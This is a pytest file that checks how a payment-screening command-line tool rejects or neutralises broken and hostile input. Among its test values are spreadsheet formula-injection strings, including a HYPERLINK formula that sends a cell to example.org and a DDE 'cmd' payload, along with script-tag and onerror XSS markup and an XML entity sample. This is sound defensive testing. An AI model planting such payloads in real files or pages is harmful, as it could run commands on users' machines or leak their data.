"""Broken and hostile input: a clear message or a rejected row, and nothing that runs in anybody's spreadsheet."""

from __future__ import annotations

import csv
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import polars as pl
import pytest
from tests.payments.rows import HEADER, row, text, write

from tanglaw.cli import main

from .conftest import TABLES, find

SRC = Path(__file__).parents[2] / "src"


def run(monkeypatch: pytest.MonkeyPatch, *words: str | Path) -> int:
    """Call the command line; return its exit status."""
    monkeypatch.setattr(sys, "argv", ["tanglaw", *map(str, words)])
    try:
        main.main()
    except SystemExit as end:
        return end.code if isinstance(end.code, int) else 1 if end.code else 0
    return 0


def test_done_is_0_and_names_the_report(monkeypatch, capsys, tmp_path):
    path = write(tmp_path / "p.csv", text(*(row(payment_id=f"P-{n}") for n in range(5))))
    assert run(monkeypatch, "detect", path, "--out", tmp_path / "out") == 0
    assert str(tmp_path / "out" / "report.html") in capsys.readouterr().out


def test_json_is_the_run_alone_on_stdout(monkeypatch, capsys, tmp_path):
    path = write(tmp_path / "p.csv", text(row()))
    assert run(monkeypatch, "detect", path, "--out", tmp_path / "out", "--json") == 0
    assert pl.read_json(capsys.readouterr().out.encode())["counts"].struct.field("read").item() == 1


BAD = {
    "missing column": ("payment_id,executed_at\nP-1,2024-01-01\n", 1, ["no column", "amount", "beneficiary_country", "tanglaw mapping"]),
    "header alone": (",".join(HEADER) + "\n", 1, ["No payment could be accepted", "0 rows were read"]),
    "empty file": ("", 1, ["No payment could be accepted", "0 rows were read"]),
    "every row rejected": (text(row(amount="-1"), row(amount="NaN")), 1, ["No payment could be accepted", "2 rows were read and 2 rejected", "p.csv, line 2: found '-1', which is negative"]),
    "JSON": ('{"payments": []}', 1, ["JSON", "Export it as CSV"]),
    "Excel": (b"\xd0\xcf\x11\xe0" + b"\0" * 600, 1, ["an Excel workbook"]),
    "truncated Parquet": (b"PAR1" + b"\0" * 50, 1, ["p.csv"]),
    "entities in XML": ('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><Document>&b;</Document>', 1, ["found a DOCTYPE"]),
}  # fmt: skip


@pytest.mark.parametrize("what", BAD)
def test_input_that_cannot_be_used_is_1_and_leaves_no_folder(monkeypatch, capsys, tmp_path, what):
    content, status, said = BAD[what]
    path = write(tmp_path / "p.csv", content)
    assert run(monkeypatch, "detect", path, "--out", tmp_path / "out") == status
    captured = capsys.readouterr()
    assert not [words for words in said if words not in captured.err]
    assert captured.err.startswith("tanglaw: ")
    assert "Traceback" not in captured.err
    assert captured.out == ""
    assert list(tmp_path.iterdir()) == [path]


def test_every_missing_column_and_file_is_told_at_once(monkeypatch, capsys, tmp_path):
    one = write(tmp_path / "one.csv", "payment_id,when\nP-1,2024-01-01\n")
    assert run(monkeypatch, "detect", one, tmp_path / "two.csv", tmp_path / "three.csv", "--out", tmp_path / "out") == 1
    error = capsys.readouterr().err
    assert "two.csv" in error
    assert "three.csv" in error


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["--engine", "duck"], "no engine 'duck'; there are local and spark"),
        (["--mapping", "absent.toml"], "absent.toml"),
        (["--rates", "absent.csv"], "absent.csv"),
        (["--patterns", "absent"], "absent"),
        (["--no-such-option"], "No such option"),
    ],
)
def test_a_call_that_cannot_be_carried_out_is_told_and_leaves_no_folder(monkeypatch, capsys, tmp_path, words, said):
    path = write(tmp_path / "p.csv", text(row()))
    assert run(monkeypatch, "detect", path, "--out", tmp_path / "out", *words) in {1, 2}
    error = capsys.readouterr().err
    assert said in error
    assert "Traceback" not in error
    assert not (tmp_path / "out").exists()


def test_unknown_engine_and_unknown_option_are_bad_usage(monkeypatch, tmp_path):
    path = write(tmp_path / "p.csv", text(row()))
    assert run(monkeypatch, "detect", path, "--out", tmp_path / "out", "--engine", "duck") == 2
    assert run(monkeypatch, "detect", path, "--out", tmp_path / "out", "--no-such-option") == 2
    assert run(monkeypatch, "detect", path) == 2


HOSTILE = {
    "not a number": {"amount": "NaN"},
    "infinite": {"amount": "inf"},
    "negative": {"amount": "-51.00"},
    "zero": {"amount": "0"},
    "beyond measure": {"amount": "1e40"},
    "year 0": {"executed_at": "0000-01-01T00:00:00Z"},
    "year 9999": {"executed_at": "9999-12-31T23:59:59Z"},
    "no such day": {"executed_at": "2024-02-31T10:00:00Z"},
    "no payer": {"originator_id": " "},
    "gigantic id": {"originator_id": "x" * 100_000},
    "gigantic reference": {"reference": "x" * 1_000_000},
    "formula for an amount": {"amount": "=1+1"},
}


def test_every_hostile_row_is_rejected_and_kept(tmp_path):
    good = [row(payment_id=f"P-{number}") for number in range(3)]
    bad = [row(payment_id=what, **change) for what, change in HOSTILE.items()]
    made = find(tmp_path / "out", write(tmp_path / "p.csv", text(*good, *bad)))
    assert made.counts == {"read": 3 + len(bad), "accepted": 3, "rejected": len(bad), "duplicates": 0}
    rejected = made.table("rejected")
    assert rejected["line"].to_list() == list(range(5, 5 + len(bad)))
    assert rejected["field"].to_list() == [next(iter(change)) for change in HOSTILE.values()]
    assert rejected["problem"].str.contains("found .*; expected ").all()
    assert rejected["problem"].str.len_chars().max() < 1_000
    assert rejected["raw"].str.len_chars().max() < 3_000
    measures = made.table("measures").filter(role="originator")
    assert measures["payments"].to_list() == [3]


def test_mis_encoded_text_is_read_and_said_or_rejected(tmp_path):
    good = text(row(originator_name="José Peña"), row(payment_id="P-2", originator_name="Zoë Ångström")).encode(
        "cp1252"
    )
    made = find(tmp_path / "out", write(tmp_path / "p.csv", good))
    assert made.counts["accepted"] == 2
    assert any("read as" in note["text"] for note in made.detection.run["notes"])
    broken = text(row(), row(payment_id="P-\ufffd")).encode().replace("\ufffd".encode(), b"\xff\x81")
    broken += text(row(payment_id="P-3", originator_name="Müller")).encode()
    made = find(tmp_path / "broken", write(tmp_path / "q.csv", broken))
    assert made.counts["read"] == made.counts["accepted"] + made.counts["rejected"] == 4


def test_no_formula_reaches_a_spreadsheet_from_ids_names_or_references(payments, found, tmp_path):
    leads = {lead.entity_id for lead in found.detection.leads}
    hostile = payments.with_columns(
        originator_id='=HYPERLINK("http://example.org/"&A1)' + pl.col("originator_id"),
        beneficiary_id='=HYPERLINK("http://example.org/"&A1)' + pl.col("beneficiary_id"),
        payment_id="@SUM(A1)|" + pl.col("payment_id"),
        reference=pl.lit("=cmd|' /C calc'!A0"),
        originator_name="+1-" + pl.col("originator_name"),
        institution=pl.lit("-2+3"),
    )  # fmt: skip
    hostile.write_parquet(tmp_path / "p.parquet")
    made = find(tmp_path / "out", tmp_path / "p.parquet")
    assert len(made.detection.leads) >= len(leads) / 2
    with (made.out / "leads.csv").open(encoding="utf-8-sig", newline="") as file:
        for line in csv.reader(file):
            for cell in line:
                assert re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell) or not re.match(r"[\s\"']*(?<!')[=+\-@\t\r]", cell), (
                    cell
                )
    report = (made.out / "report.html").read_text("utf-8")
    assert 'HYPERLINK("http' not in report, "ids are escaped in the page"


def test_markup_in_names_and_references_stays_text(payments, found, tmp_path):
    # Were all names alike, all people would be kin: whoever stands in a lead is renamed.
    led = pl.Series(sorted({account for lead in found.detection.leads for account in lead.subject_ids})).implode()
    marked = payments.with_columns(
        beneficiary_name=pl.when(pl.col("beneficiary_id").is_in(led))
        .then("<script>alert(1)</script>" + pl.col("beneficiary_name"))
        .otherwise("beneficiary_name"),
        originator_name=pl.when(pl.col("originator_id").is_in(led))
        .then('"><img src=x onerror=alert(1)>' + pl.col("originator_name"))
        .otherwise("originator_name"),
        reference=pl.lit("</script><script>alert(2)</script>"),
        originator_id="<b>" + pl.col("originator_id"),
    )
    marked.write_parquet(tmp_path / "p.parquet")
    made = find(tmp_path / "out", tmp_path / "p.parquet")
    assert made.detection.leads
    report = (made.out / "report.html").read_text("utf-8")
    assert "<script>alert" not in report
    assert "<img src=x" not in report
    assert "<b>C" not in report


def test_interrupt_leaves_nothing_and_a_rerun_works(world, tmp_path):
    out = tmp_path / "out"
    big = tmp_path / "in" / "p.csv"
    big.parent.mkdir()
    pl.read_parquet(world.payments_path).write_csv(big, datetime_format="%Y-%m-%dT%H:%M:%SZ")
    process = subprocess.Popen(
        [sys.executable, "-m", "tanglaw", "detect", str(big), "--out", str(out)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env={**os.environ, "PYTHONPATH": str(SRC)},
    )  # fmt: skip
    patience = time.monotonic() + 60
    while not list(tmp_path.glob(".out.partial-*/.work-*/*")) and process.poll() is None:
        assert time.monotonic() < patience
        time.sleep(0.01)
    process.send_signal(signal.SIGINT)
    printed, error = process.communicate(timeout=60)
    assert process.returncode not in {0, None}
    assert "Traceback" not in error
    assert printed == ""
    assert [path.name for path in tmp_path.iterdir()] == ["in"]
    made = find(out, big)
    assert set(TABLES) <= {path.name for path in made.out.iterdir()}
    assert [path.name for path in out.iterdir() if path.name.startswith(".")] == []


def test_one_account_with_very_many_payments(tmp_path):
    count = 200_000
    rows = pl.DataFrame({"n": pl.int_range(count, eager=True)}).select(
        payment_id=pl.format("P-{}", "n"),
        executed_at=pl.datetime(2023, 1, 1, time_zone="UTC") + pl.duration(minutes=pl.col("n") * 4),
        amount=(pl.col("n") % 90 + 10).cast(pl.Decimal(10, 2)),
        currency=pl.lit("AUD"), originator_id=pl.lit("C-1"), originator_country=pl.lit("AU"),
        beneficiary_id=pl.format("R-{}", pl.col("n") % 7), beneficiary_country=pl.lit("PH"),
    )  # fmt: skip
    rows.write_parquet(tmp_path / "p.parquet")
    made = find(tmp_path / "out", tmp_path / "p.parquet")
    assert made.counts["accepted"] == count
    assert made.table("measures").filter(role="originator")["payments"].to_list() == [count]
    assert sum(path.stat().st_size for path in made.out.iterdir()) < 100_000_000
